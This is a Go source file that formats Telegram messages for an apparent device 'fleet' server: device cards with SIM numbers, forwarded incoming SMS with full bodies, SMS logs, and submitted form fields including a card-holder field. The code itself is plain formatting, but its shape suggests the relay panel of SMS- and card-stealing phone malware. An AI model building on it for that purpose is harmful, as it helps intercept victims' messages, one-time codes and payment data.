package dispatcher

import (
	"fmt"
	"sort"
	"strings"
	"time"
	"unicode"

	"github.com/fleetpanel/fleet-server/internal/models"
)

// Telegram's legacy Markdown treats these as entity markers.
var markdownEscaper = strings.NewReplacer(
	"_", `\_`,
	"*", `\*`,
	"`", "\\`",
	"[", `\[`,
)

// escape makes device-supplied text safe inside a Markdown message.
func escape(s string) string {
	return markdownEscaper.Replace(s)
}

// entityStripper removes entity markers. Escapes are not honoured inside
// an entity, so text placed in one loses the markers instead.
var entityStripper = strings.NewReplacer("_", "", "*", "", "`", "", "[", "")

// bold renders device-supplied s in bold.
func bold(s string) string {
	return "*" + entityStripper.Replace(s) + "*"
}

// code renders s as inline code. Backticks cannot be escaped inside a
// code entity, so they are replaced.
func code(s string) string {
	return "`" + strings.ReplaceAll(s, "`", "'") + "`"
}

func orNA(s *string) string {
	if s == nil || *s == "" {
		return "N/A"
	}
	return escape(*s)
}

func batteryText(p *models.Percent) string {
	if p == nil {
		return "N/A"
	}
	return p.String() + "%"
}

// formatDevice renders the device card used in listings and events.
func formatDevice(d models.Device, online bool) string {
	model := d.Model
	if model == "" {
		model = "Unknown"
	}
	status := "🔴 Offline"
	if online {
		status = "🟢 Online"
	}

	return fmt.Sprintf("📱 %s\n🪪 SIM1: %s\n🪪 SIM2: %s\n🔋 Battery: %s\n🌐 %s",
		bold(model), orNA(d.SIM1), orNA(d.SIM2), batteryText(d.Battery), status)
}

func formatTime(t time.Time) string {
	return t.Format("02 Jan 2006 | 15:04:05")
}

func formatSMSReceived(d models.Device, e *models.SMSEntry) string {
	var b strings.Builder
	b.WriteString("📱 NEW MESSAGE RECEIVED 📱\n\n")
	b.WriteString("📜 Device Numbers 📜\n")
	b.WriteString("================================\n")
	fmt.Fprintf(&b, "   • Model: %s\n", escape(d.DisplayName()))
	fmt.Fprintf(&b, "   🪪 SIM1: %s\n", orNA(d.SIM1))
	fmt.Fprintf(&b, "   🪪 SIM2: %s\n\n", orNA(d.SIM2))
	b.WriteString("🃏 Message Details 🃏\n")
	b.WriteString("================================\n")
	fmt.Fprintf(&b, "   • From: %s\n", escape(e.From))
	if e.SIM != "" {
		fmt.Fprintf(&b, "   • SIM: %s\n", escape(e.SIM))
	}
	b.WriteString("   📧 Message Preview:\n")
	b.WriteString(escape(e.Body) + "\n")
	fmt.Fprintf(&b, "   ⏳ TimeStamp: %s\n", formatTime(e.Timestamp.Time()))
	b.WriteString("================================")
	return b.String()
}

func formatSMSLog(entries []*models.SMSEntry, total int64) string {
	var b strings.Builder
	fmt.Fprintf(&b, "📜 SMS Logs (%d messages)\n\n", total)
	for i, e := range entries {
		sim := e.SIM
		if sim == "" {
			sim = "N/A"
		}
		fmt.Fprintf(&b, "%d. From: %s\nSIM: %s\nMsg: %s\nTime: %s\n\n",
			i+1, escape(e.From), escape(sim), escape(e.Body), formatTime(e.Timestamp.Time()))
	}
	return strings.TrimRight(b.String(), "\n")
}

// fieldLabel turns "card_holder" into "Card Holder".
func fieldLabel(key string) string {
	words := strings.Fields(strings.ReplaceAll(key, "_", " "))
	for i, w := range words {
		r := []rune(w)
		r[0] = unicode.ToUpper(r[0])
		words[i] = string(r)
	}
	return strings.Join(words, " ")
}

func formatFields(fields models.Variables) string {
	keys := make([]string, 0, len(fields))
	for k := range fields {
		keys = append(keys, k)
	}
	sort.Strings(keys)

	var b strings.Builder
	for _, k := range keys {
		fmt.Fprintf(&b, "\n🔸 %s: %s", bold(fieldLabel(k)), escape(fmt.Sprint(fields[k])))
	}
	return b.String()
}

func formatFormSubmitted(d models.Device, fields models.Variables) string {
	return "🧾 *Form Submitted*\n📱 " + escape(d.DisplayName()) + formatFields(fields)
}

func formatFormView(deviceID string, fields models.Variables) string {
	return "🧾 Form Data for " + escape(deviceID) + ":" + formatFields(fields)
}
